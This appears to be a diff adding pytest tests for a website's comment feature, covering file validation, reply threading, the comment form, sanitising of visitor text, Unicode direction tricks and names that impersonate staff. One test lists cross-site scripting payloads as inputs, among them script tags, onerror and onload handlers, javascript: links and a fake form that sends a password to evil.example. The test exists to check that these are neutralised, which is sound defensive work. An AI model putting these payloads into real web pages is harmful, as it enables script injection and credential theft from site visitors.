@@ -1,0 +1,198 @@
+# ruff: noqa: E501 - one mistake a line reads better
+"""Approved comments are shown; bad files and hostile words do no harm."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from lxml import html as lxml_html
+
+from comments.names import clean_name, clean_text, could_pass_for
+from comments.text import TAGS, comment_html
+
+FOLDER = "comments/x"
+RECEIVER = "content/practice/practice.toml"
+
+
+def comment(text="Words.", **fields):
+    front = {"name": "Pat Placeholder", "date": "2026-11-03"} | fields
+    lines = "\n".join(f"{name}: {value}" for name, value in front.items())
+    return f"---\n{lines}\n---\n\n{text}\n"
+
+
+@pytest.fixture
+def page(site, article):
+    """A function that builds an article with comments and returns its page."""
+
+    def built(*comments, receiver="", **changes):
+        path = site.root / RECEIVER
+        text = re.sub(
+            r'receiver = "[^"]*"', f'receiver = "{receiver}"', path.read_text()
+        )
+        path.write_text(text)
+        files = {f"{FOLDER}/{n}.md": each for n, each in enumerate(comments, 1)}
+        site.write({"articles/x.md": article(**changes), **files})
+        outcome = site.build()
+        assert outcome.good, outcome
+        return (site.output / "articles" / "x" / "index.html").read_text()
+
+    return built
+
+
+@pytest.mark.parametrize(
+    ("files", "said"),
+    [
+        ({"comments/y/1.md": comment()}, "content/comments/y/1.md:1: There is no article “y” for this comment."),
+        ({f"{FOLDER}/1.md": comment(reply_to=9)}, "content/comments/x/1.md:4: It answers “9”, which is not in this folder."),
+        ({f"{FOLDER}/1.md": comment(reply_to=1)}, "content/comments/x/1.md:4: It answers itself"),
+        ({f"{FOLDER}/1.md": comment("")}, "content/comments/x/1.md:5: The comment is empty."),
+        ({f"{FOLDER}/1.md": comment("a" * 10_001)}, "The comment has 10,00"),
+        ({f"{FOLDER}/1.md": comment(email="a@example.com")}, "content/comments/x/1.md:4: “email” is not a field of a comment."),
+        ({f"{FOLDER}/1.md": comment(date="soon")}, "content/comments/x/1.md:3: “date: soon” is not a date"),
+        ({f"{FOLDER}/1.md": "No front matter"}, "content/comments/x/1.md:1: The file does not start with front matter."),
+    ],
+)  # fmt: skip
+def test_bad_comment_file_is_one_sentence(site, article, files, said):
+    """What is wrong with a comment file is said once, with file and line."""
+    (mistake,) = site.mistakes({"articles/x.md": article(), **files})
+
+    assert mistake.startswith(said) or said in mistake
+
+
+def test_comments_that_answer_each_other_are_both_named(site, article):
+    """A circle of replies has no first comment."""
+    files = {
+        f"{FOLDER}/1.md": comment(reply_to=2),
+        f"{FOLDER}/2.md": comment(reply_to=1),
+    }
+
+    assert len(site.mistakes({"articles/x.md": article(), **files})) == 2
+
+
+def test_replies_stand_below_what_they_answer_with_badge_and_date(page):
+    """A thread keeps its order, whatever the files are called."""
+    html = page(
+        comment("First question"),
+        comment("Our answer", name="Ann Author", reply_to=1, practice="true"),
+        comment("Second question", date="2026-11-01"),
+    )
+    tree = lxml_html.fromstring(html)
+    top = tree.xpath("//section[@class='comments']/ol/li")
+
+    assert [each.get("id") for each in top] == ["comment-3", "comment-1"]
+    (reply,) = top[1].xpath("./ol/li")
+    assert "Our answer" in reply.text_content()
+    assert "From the practice" in reply.text_content()
+    assert "November 3, 2026" in top[1].text_content()
+    assert "From the practice" not in top[0].text_content()
+
+
+def test_without_a_receiver_there_is_no_form(page):
+    """Comments are off until something receives them; old ones are still shown."""
+    html = page(comment("Old words"), receiver="")
+
+    assert "Old words" in html
+    assert "comment-form" not in html
+    assert "Leave a comment" not in html
+
+
+def test_without_comments_and_receiver_there_is_nothing(page):
+    """No empty heading promises a talk that cannot happen."""
+    assert 'id="comments"' not in page()
+
+
+def test_an_article_closes_its_comments(page):
+    """`comments: closed` takes the form away and says so."""
+    html = page(
+        comment(), receiver="https://comments.example.com/comment", comments="closed"
+    )
+
+    assert "Comments on this article are closed." in html
+    assert "comment-form" not in html
+
+
+def test_the_form_keeps_its_promises_in_words(page):
+    """It says what is published, marks what may be left out, warns about health."""
+    html = page(receiver="https://comments.example.com/comment")
+    (form,) = lxml_html.fromstring(html).forms[-1:]
+
+    assert form.action == "https://comments.example.com/comment"
+    assert form.fields["page"] == "/articles/x/"
+    assert "Your email address is never published" in html
+    assert "do not write about your own health" in html
+    assert form.inputs["email"].get("required") is None
+    assert form.inputs["name"].get("required") is not None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![pixel](https://evil.example/p.png)",
+        "[press](javascript:alert(1))",
+        "[press](data:text/html;base64,PHNjcmlwdD4=)",
+        '<a href="x" style="position:fixed">over all</a>',
+        "<!-- --><svg/onload=alert(1)>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "`<script>`\n\n    <script>alert(1)</script>",
+        "# Huge heading\n\n***\n\n| a | b |\n|---|---|",
+        "</section></article><form action=https://evil.example><input name=password>",
+        '[x](https://a.example "onclick=alert(1)")',
+        "\\<script>alert(1)\\</script>",
+    ],
+)
+def test_hostile_words_are_shown_as_words(text):
+    """Nothing a stranger writes becomes more than plain text and links."""
+    tree = lxml_html.fragment_fromstring(comment_html(text), create_parent="div")
+
+    assert {each.tag for each in tree.iterdescendants()} <= TAGS
+    for each in tree.iterdescendants():
+        assert set(each.attrib) <= {"href", "rel"}
+        assert each.get("href", "https:").startswith(("https:", "http:"))
+
+
+@given(st.text(max_size=300))
+def test_any_text_at_all_is_harmless(text):
+    """Whatever is written, only the allowed elements come out."""
+    tree = lxml_html.fragment_fromstring(comment_html(text), create_parent="div")
+
+    assert {each.tag for each in tree.iterdescendants()} <= TAGS
+    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", comment_html(text))
+
+
+def test_direction_tricks_and_towers_of_marks_are_taken_out():
+    """Text cannot run backward, hide letters or climb over the page."""
+    tricked = "safe\u202egnp.exe\u2066 zero\u200bwidth \x07bell Z" + "\u0301" * 50
+
+    cleaned = clean_text(tricked)
+
+    assert cleaned.startswith("safegnp.exe zerowidth bell ")
+    assert len(cleaned) < 40
+
+
+def test_names_are_one_short_line():
+    """A name cannot be a novel, and cannot bring lines of its own."""
+    assert (
+        clean_name("Pat\n\nPlaceholder " + "x" * 500)
+        == ("Pat Placeholder " + "x" * 500)[:60]
+    )
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["Ann Author", "ANN AUTHOR, PT", "Аnn Аuthor", "Ann\u200b Author", "Ánn Authör", "Dr. Ann-Author"],
+)  # fmt: skip
+def test_names_that_could_pass_for_ours_are_marked(name):
+    """Capitals, accents and letters of other scripts do not help an impostor."""
+    assert could_pass_for(clean_name(name), ["Ann Author"])
+    assert not could_pass_for("Anna", ["Ann Author"])
+
+
+def test_an_impostor_is_shown_as_a_visitor(page):
+    """A visitor with a therapist's name gets no badge, and is called a visitor."""
+    html = page(comment(name="Ann Author"))
+
+    assert "(visitor)" in html
+    assert "From the practice" not in html
